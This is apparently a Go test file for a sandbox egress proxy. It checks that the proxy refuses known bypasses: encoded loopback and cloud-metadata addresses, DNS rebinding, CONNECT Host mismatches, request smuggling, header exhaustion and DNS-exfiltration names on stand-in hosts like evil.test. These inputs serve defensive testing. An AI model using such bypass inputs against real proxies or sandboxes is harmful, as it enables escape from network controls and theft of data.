package netproxy

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Attacks a command in the sandbox could make on its proxy, each checked
// against the origin's count of connections: nothing refused reaches it.

// The many spellings of a denied host, or of the host's loopback under a
// list that allows every name ("*:*") but names no address: each is
// refused, whether forwarded or tunnelled.
func TestProxyAttackHostSpellings(t *testing.T) {
	f := newFixture(t, "allowed.test:HTTPPORT", "allowed.test:TLSPORT", "127.0.0.1:HTTPPORT", "127.0.0.1:TLSPORT")
	port := f.origin.Port(false)
	// Other spellings of the allowed name are the allowed name.
	for _, host := range []string{"ALLOWED.TEST", "allowed.test.", "Allowed.Test."} {
		code, body := f.get(t, fmt.Sprintf("http://%s:%d/hello", host, port))
		assert.Equal(t, 200, code, host)
		assert.Contains(t, body, "hello from allowed.test", host)
	}
	before := f.origin.Conns()
	for _, host := range []string{
		"DENIED.TEST", "denied.test.", "Denied.Test.", "denied.test..", ".denied.test",
		"xn--dnied-bsa.test", // punycode of dénied.test: a name of its own
		"d\xc3\xa9nied.test", // UTF-8: names are ASCII
		"%64enied.test",      // percent-encoded d
		"denied%2etest",      // percent-encoded dot
		"allowed.test%00.x",  // a NUL in the name
		"allowed.test\\@denied.test",
	} {
		raw := f.raw(t, fmt.Sprintf("GET http://%s:%d/hello HTTP/1.1\r\nHost: allowed.test\r\n\r\n", host, port))
		assert.Regexp(t, `^HTTP/1.1 (400|403) `, raw, "%q", host)
		assert.NotContains(t, raw, "hello from", host)
		raw = f.raw(t, fmt.Sprintf("CONNECT %s:%d HTTP/1.1\r\nHost: allowed.test\r\n\r\n", host, f.origin.Port(true)))
		assert.Regexp(t, `^HTTP/1.1 (400|403) `, raw, "CONNECT %q", host)
	}
	assert.Equal(t, before, f.origin.Conns(), "no refused spelling reached the origin")

	// Under "*:*" every spelling of the loopback, the metadata address or
	// a private one is refused: as a literal, as a number, or as a name
	// resolving there.
	w := newFixture(t, "*:*")
	t.Cleanup(SetTestHosts(map[string][]netip.Addr{
		"loop.test":      {netip.MustParseAddr("127.0.0.1")},
		"meta.test":      {netip.MustParseAddr("169.254.169.254")},
		"mapped.test":    {netip.MustParseAddr("::ffff:127.0.0.1")},
		"mixed.test":     {netip.MustParseAddr("93.184.215.14"), netip.MustParseAddr("10.1.2.3")},
		"mixed6.test":    {netip.MustParseAddr("2606:2800:21f:cb07:6820:80da:af6b:8b2c"), netip.MustParseAddr("fd00::1")},
		"nat64.test":     {netip.MustParseAddr("64:ff9b::7f00:1")},
		"sixtofour.test": {netip.MustParseAddr("2002:7f00:1::1")},
	}))
	wport := w.origin.Port(false)
	before = w.origin.Conns()
	for _, host := range []string{
		"127.0.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "0x7f.0.0.1", "127.1", "127.0.1", "127.0.0.1.",
		"017700000001", "0x7F.1", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:0:0:1]", "[::127.0.0.1]",
		"[fe80::1%25lo]", "[fe80::1%lo]", "[::1%251]", "169.254.169.254", "2852039166", "[fd00:ec2::254]",
		"0.0.0.0", "0", "[::]", "localhost", "localhost.", "LOCALHOST",
		"loop.test", "meta.test", "mapped.test", "mixed.test", "mixed6.test", "nat64.test", "sixtofour.test",
	} {
		raw := w.raw(t, fmt.Sprintf("GET http://%s:%d/hello HTTP/1.1\r\nHost: allowed.test\r\n\r\n", host, wport))
		assert.Regexp(t, `^HTTP/1.1 (400|403|502) `, raw, "%q", host)
		assert.NotContains(t, raw, "hello from", host)
		raw = w.raw(t, fmt.Sprintf("CONNECT %s:%d HTTP/1.1\r\nHost: allowed.test\r\n\r\n", strings.Trim(host, "[]"), wport))
		assert.Regexp(t, `^HTTP/1.1 (400|403|502) `, raw, "CONNECT %q", host)
		raw = w.raw(t, fmt.Sprintf("CONNECT %s:%d HTTP/1.1\r\nHost: allowed.test\r\n\r\n", host, wport))
		assert.Regexp(t, `^HTTP/1.1 (400|403|502) `, raw, "CONNECT %q", host)
	}
	assert.Equal(t, before, w.origin.Conns(), "no spelling of a host address reached the origin")
}

// A name whose answer changes between two questions (DNS rebinding) is
// resolved once per connection, and the connection goes to the address
// that was checked: the first answer names the allowed address, every
// later one another loopback address that must never see a connection.
func TestProxyAttackRebinding(t *testing.T) {
	trap, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skip("no 127.0.0.2 here:", err)
	}
	defer trap.Close()
	var trapped atomic.Int64
	go func() {
		for {
			c, err := trap.Accept()
			if err != nil {
				return
			}
			trapped.Add(1)
			c.Close()
		}
	}()
	port := trap.Addr().(*net.TCPAddr).Port
	good, err := net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", port))
	if err != nil {
		t.Skip("port taken on 127.0.0.1:", err)
	}
	defer good.Close()
	go func() {
		for {
			c, err := good.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				br := bufio.NewReader(c)
				for {
					req, err := http.ReadRequest(br)
					if err != nil {
						return
					}
					_, _ = io.Copy(io.Discard, req.Body)
					_, _ = io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\ngood\n")
					if req.Close {
						return
					}
				}
			}()
		}
	}()

	var questions atomic.Int64
	old := lookup
	lookup = func(ctx context.Context, network, host string) ([]netip.Addr, error) {
		if host != "rebind.test" {
			return old(ctx, network, host)
		}
		if questions.Add(1)%2 == 1 {
			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
		}
		return []netip.Addr{netip.MustParseAddr("127.0.0.2")}, nil
	}
	defer func() { lookup = old }()

	f := newFixture(t, fmt.Sprintf("rebind.test:%d", port), fmt.Sprintf("127.0.0.1:%d", port))
	var served, refused int
	for range 6 {
		raw := f.raw(t, fmt.Sprintf("GET http://rebind.test:%d/ HTTP/1.1\r\nConnection: close\r\n\r\n", port))
		if strings.Contains(raw, "good") {
			served++
			continue
		}
		refused++
		assert.Contains(t, raw, "it resolves to 127.0.0.2, a loopback address, which no rule names")
	}
	for range 6 {
		raw := f.raw(t, fmt.Sprintf("CONNECT rebind.test:%d HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: rebind.test\r\nConnection: close\r\n\r\n", port))
		if strings.Contains(raw, "200 Connection established") {
			served++
			assert.Contains(t, raw, "good")
			continue
		}
		refused++
		assert.Contains(t, raw, "it resolves to 127.0.0.2, a loopback address, which no rule names")
	}
	// Forwarded requests may share one upstream connection (to the checked
	// address); every tunnel asks anew.
	assert.GreaterOrEqual(t, served, 6, "the answers that named the allowed address were used")
	assert.GreaterOrEqual(t, refused, 3, "one question per connection: every other answer was the trap's")
	assert.Equal(t, int64(0), trapped.Load(), "a connection went to an address that was not checked")
}

// A CONNECT goes where its target says whatever its Host header claims, and
// a Host header naming an allowed host does not open a denied target.
func TestProxyAttackConnectHost(t *testing.T) {
	f := newFixture(t, "allowed.test:HTTPPORT", "127.0.0.1:HTTPPORT")
	port := f.origin.Port(false)
	raw := f.raw(t, fmt.Sprintf("CONNECT allowed.test:%d HTTP/1.1\r\nHost: denied.test:%d\r\n\r\nGET /hello HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", port, port))
	assert.Contains(t, raw, "200 Connection established")
	assert.Contains(t, raw, "hello from allowed.test")
	e := <-f.events
	assert.Equal(t, Target{Host: "allowed.test", Port: port}, e.Target)

	before := f.origin.Conns()
	raw = f.raw(t, fmt.Sprintf("CONNECT denied.test:%d HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\nGET /hello HTTP/1.1\r\nHost: allowed.test\r\n\r\n", port, port))
	assert.Contains(t, raw, "403 blocked by network policy: denied.test")
	assert.NotContains(t, raw, "hello from")
	assert.Equal(t, before, f.origin.Conns())
}

// Keep-alive: an allowed request's connection does not carry a later one
// to a denied host, however long the client waits between them.
func TestProxyAttackKeepAlive(t *testing.T) {
	f := newFixture(t, "allowed.test:HTTPPORT", "127.0.0.1:HTTPPORT")
	port := f.origin.Port(false)
	c, err := net.Dial("tcp", f.addr)
	require.NoError(t, err)
	defer c.Close()
	br := bufio.NewReader(c)
	for range 2 {
		fmt.Fprintf(c, "GET http://allowed.test:%d/hello HTTP/1.1\r\nHost: allowed.test\r\n\r\n", port)
		resp, err := http.ReadResponse(br, nil)
		require.NoError(t, err)
		body, _ := io.ReadAll(resp.Body)
		assert.Equal(t, 200, resp.StatusCode)
		assert.Contains(t, string(body), "hello from allowed.test")
	}
	requests := f.origin.Requests()
	// The same host in the Host header, the denied one in the URL; then
	// origin-form, as if the connection were the origin's now.
	fmt.Fprintf(c, "GET http://denied.test:%d/hello HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET /hello HTTP/1.1\r\nHost: denied.test\r\n\r\n", port)
	_ = c.SetReadDeadline(time.Now().Add(30 * time.Second))
	rest, _ := io.ReadAll(br)
	assert.Contains(t, string(rest), "403 blocked by network policy: denied.test")
	assert.NotContains(t, string(rest), "hello from")
	assert.Equal(t, requests, f.origin.Requests())

	// Origin-form on a fresh connection after an allowed request is no
	// better: the proxy is never the origin.
	raw := f.raw(t, fmt.Sprintf("GET http://allowed.test:%d/hello HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET /hello HTTP/1.1\r\nHost: denied.test\r\n\r\n", port))
	assert.Contains(t, raw, "400 Bad Request")
	assert.Equal(t, requests+1, f.origin.Requests())
}

// A WebSocket upgrade asked of the forward proxy is not passed on: the
// origin sees a plain request without Upgrade, and what the client sends
// next is read as another request, decided like any.
func TestProxyAttackUpgrade(t *testing.T) {
	f := newFixture(t, "allowed.test:HTTPPORT", "127.0.0.1:HTTPPORT")
	port := f.origin.Port(false)
	raw := f.raw(t, fmt.Sprintf("GET http://allowed.test:%d/headers HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"+
		"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"+
		"GET http://denied.test:%d/hello HTTP/1.1\r\nHost: denied.test\r\n\r\n", port, port))
	assert.Contains(t, raw, "200 OK")
	assert.NotContains(t, raw, "101 ")
	assert.NotContains(t, raw, "Upgrade: websocket", "the origin was not asked to upgrade")
	assert.Contains(t, raw, "403 blocked by network policy: denied.test")
	assert.NotContains(t, raw, "hello from")
}

// More framing tricks: each request is refused or forwarded alone, and
// nothing reaches a denied host.
func TestProxyAttackFraming(t *testing.T) {
	f := newFixture(t, "allowed.test:HTTPPORT", "127.0.0.1:HTTPPORT")
	port := f.origin.Port(false)
	smuggled := fmt.Sprintf("GET http://denied.test:%d/hello HTTP/1.1\r\nHost: denied.test\r\n\r\n", port)
	for _, head := range []string{
		"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
		"Transfer-Encoding: xchunked\r\n",
		"Transfer-Encoding : chunked\r\n",
		"Content-Length: +5\r\n",
		"Content-Length: 5, 6\r\n",
		"X-Folded: a\r\n Content-Length: 5\r\n",
		"Content-Length: 0\r\nContent-Length: 0\r\n",
	} {
		raw := f.raw(t, fmt.Sprintf("POST http://allowed.test:%d/hello HTTP/1.1\r\nHost: allowed.test\r\n%s\r\n0\r\n\r\n%s", port, head, smuggled))
		assert.NotContains(t, raw, "hello from denied.test", "%q", head)
	}
	for _, bad := range []string{
		"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
		fmt.Sprintf("GET http://allowed.test:%d/hello HTTP/1.1\nHost: denied.test\n\n%s", port, smuggled),
		fmt.Sprintf("GET http://allowed.test:%d/hello HTTP/1.1\rHost: x\r\n\r\n%s", port, smuggled),
		fmt.Sprintf("GET http://allowed.test:%d/hello HTTP/9.9\r\n\r\n%s", port, smuggled),
		fmt.Sprintf("CONNECT denied.test:%d HTTP/1.0\r\n\r\n", port),
	} {
		raw := f.raw(t, bad)
		assert.NotContains(t, raw, "hello from denied.test", "%q", bad)
	}
	for _, e := range drain(f.events) {
		if e.Err == nil {
			assert.Equal(t, "allowed.test", e.Target.Host, "only the allowed host was reached")
		}
	}
}

// drain returns the events logged so far.
func drain(events chan Event) []Event {
	var out []Event
	for {
		select {
		case e := <-events:
			out = append(out, e)
		default:
			return out
		}
	}
}

// Resource exhaustion: huge headers, many headers, and clients that send
// nothing are refused or bounded, and the proxy keeps serving.
func TestProxyAttackExhaustion(t *testing.T) {
	f := newFixture(t, "allowed.test:HTTPPORT", "127.0.0.1:HTTPPORT")
	port := f.origin.Port(false)
	huge := fmt.Sprintf("GET http://allowed.test:%d/hello HTTP/1.1\r\nX-Big: %s\r\n\r\n", port, strings.Repeat("a", 4<<20))
	many := fmt.Sprintf("GET http://allowed.test:%d/hello HTTP/1.1\r\n%s\r\n", port, strings.Repeat("X-A: b\r\n", 200000))
	long := fmt.Sprintf("GET http://allowed.test:%d/%s HTTP/1.1\r\n\r\n", port, strings.Repeat("a", 4<<20))
	for _, req := range []string{huge, many, long} {
		c, err := net.Dial("tcp", f.addr)
		require.NoError(t, err)
		go func() { _, _ = io.WriteString(c, req) }() // the proxy stops reading: this write may never end
		_ = c.SetReadDeadline(time.Now().Add(30 * time.Second))
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		c.Close()
		if err == nil { // else reset: the proxy closed with the request unread
			assert.Equal(t, 400, resp.StatusCode)
		}
	}
	// Idle connections take no more than their slot, and the proxy still
	// answers.
	var idle []net.Conn
	for range 50 {
		c, err := net.Dial("tcp", f.addr)
		require.NoError(t, err)
		idle = append(idle, c)
	}
	code, body := f.get(t, fmt.Sprintf("http://allowed.test:%d/hello", port))
	assert.Equal(t, 200, code)
	assert.Contains(t, body, "hello from allowed.test")
	for _, c := range idle {
		c.Close()
	}
}

// A name the list refuses is never resolved: the proxy's resolver cannot
// carry data out in the names a command asks for (exfil-<data>.evil.test).
// Asking the approver (Check) comes before the resolution too.
func TestProxyAttackRefusedNamesAreNotResolved(t *testing.T) {
	var mu sync.Mutex
	var asked []string
	old := lookup
	lookup = func(ctx context.Context, network, host string) ([]netip.Addr, error) {
		mu.Lock()
		asked = append(asked, host)
		mu.Unlock()
		return nil, errors.New("no DNS in this test")
	}
	defer func() { lookup = old }()
	f := newFixture(t, "allowed.test:HTTPPORT", "127.0.0.1:HTTPPORT", "*.ask.test")
	f.srv.Check = func(ctx context.Context, tg Target) (any, error) {
		if strings.HasSuffix(tg.Host, ".ask.test") {
			return nil, errors.New("the approver refused")
		}
		return nil, nil
	}
	for _, host := range []string{"c2VjcmV0.evil.test", "exfil-data.example.com", "c2VjcmV0.ask.test"} {
		raw := f.raw(t, fmt.Sprintf("GET http://%s/ HTTP/1.1\r\n\r\n", host))
		assert.Contains(t, raw, "403 blocked by network policy: "+strings.ToLower(host), host)
		raw = f.raw(t, fmt.Sprintf("CONNECT %s:443 HTTP/1.1\r\n\r\n", host))
		assert.Contains(t, raw, "403 blocked by network policy: "+strings.ToLower(host), host)
	}
	mu.Lock()
	defer mu.Unlock()
	assert.Empty(t, asked, "refused names were resolved")
}
